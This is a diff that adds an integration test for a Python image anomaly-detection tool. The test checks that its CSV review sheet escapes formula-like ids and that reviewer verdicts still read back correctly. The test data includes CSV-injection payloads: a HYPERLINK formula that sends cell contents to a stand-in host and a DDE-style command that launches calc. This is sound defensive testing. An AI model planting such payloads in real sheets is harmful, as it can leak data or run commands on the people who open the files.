@@ -6,7 +6,9 @@ tests/integration/reports/test_summary.py.
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import io
 import json
 import os
 
@@ -20,6 +22,7 @@ from spade_batch.formats.card import CalibrationRecord, ModelCard, Thresholds
 from spade_batch.formats.images import Preprocessing
 from spade_batch.formats.layout import Outputs as RunOutputs
 from spade_batch.formats.layout import part_name
+from spade_batch.formats.review import normal_images, read_sheet
 from spade_batch.formats.scores import ScoreRow, write_scores
 from spade_batch.reports.run_report import read_run_scores
 from spade_batch.reports.summary import decision_rules, failure_reason, failures_by_reason, false_alarm_range, run_summary
@@ -163,3 +166,40 @@ def test_the_review_sheet_holds_the_top_flagged_images_and_the_verdicts_are_coun
     publish(str(tmp_path / "model"), 1, None)
     code, _, err = show(capsys, str(tmp_path / "model"), "--format", "csv")
     assert code == 2 and "is a model: a review sheet (--format csv) is written for a run's OUT_URI" in err
+
+
+def test_a_sheet_of_formula_like_ids_opens_as_text_and_reads_back_to_the_same_ids(tmp_path, capsys):
+    """Ids a spreadsheet would run as formulas (OWASP CSV injection) get a single quote before them in the sheet; the
+    verdicts read back name the run's own ids, whether the spreadsheet kept the quote or dropped it on saving."""
+    root = str(tmp_path / "run")
+    outputs = RunOutputs(root)
+    ids = ['=HYPERLINK("http://x.example/?leak="&A1,"open").png', "+cmd|' -C calc'!A0.png", "@SUM(1+1).png", "-2+3.png",
+           "\tTAB.png", "'=quoted.png", "plain.png"]
+    rows = [ScoreRow(id=i, uri=f"/night/{i}", image_score=10.0 - n, is_anomalous=True, mask_uri=f"{root}/masks/{i}")
+            for n, i in enumerate(ids)]
+    write_scores(storage.join(outputs.scores, part_name([row.id for row in rows])), rows)
+    run = {"model_uri": "m", "images": len(ids), "scored": len(ids), "failed": 0, "retryable": 0, "resumed": 0, "anomalous": len(ids),
+           "thresholds": {"image": 1.0, "pixel": 1.0}, "mask_kind": "binary", "seconds": 1.0, "images_per_second": 5.0,
+           "settings": {}, "versions": {}}
+    storage.write_text(outputs.run_json, json.dumps(run))
+
+    code, out, _ = show(capsys, root, "--top", str(len(ids)), "--format", "csv")
+
+    cells = [row for row in csv.reader(io.StringIO(out))][1:]
+    assert code == 0 and [row[0] for row in cells] == [("'" + i if i != "plain.png" else i) for i in ids]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in cells for cell in row), "no cell a spreadsheet evaluates"
+    for kept_quote in (True, False):  # LibreOffice keeps the quote as text; a spreadsheet that reads it as the text marker drops it
+        lines = [",".join([*(_csv_cell(cell if kept_quote or cell.startswith("''") else cell.removeprefix("'")) for cell in row[:4]),
+                           "normal" if n % 2 else "defect"]) for n, row in enumerate(cells)]
+        (tmp_path / "sheet.csv").write_text("id,uri,image_score,mask_uri,verdict\n" + "\n".join(lines) + "\n")
+        code, out, err = show(capsys, root, "--verdicts", str(tmp_path / "sheet.csv"), "--json")
+        assert code == 0, err
+        assert json.loads(out)["reviewed"] == len(ids) and json.loads(out)["false_alarms"] == len(ids) // 2
+        marked = normal_images(read_sheet(str(tmp_path / "sheet.csv")))
+        assert sorted(marked.uris) == sorted(f"/night/{i}" for n, i in enumerate(ids) if n % 2)
+
+
+def _csv_cell(text: str) -> str:
+    out = io.StringIO()
+    csv.writer(out, lineterminator="").writerow([text])
+    return out.getvalue()
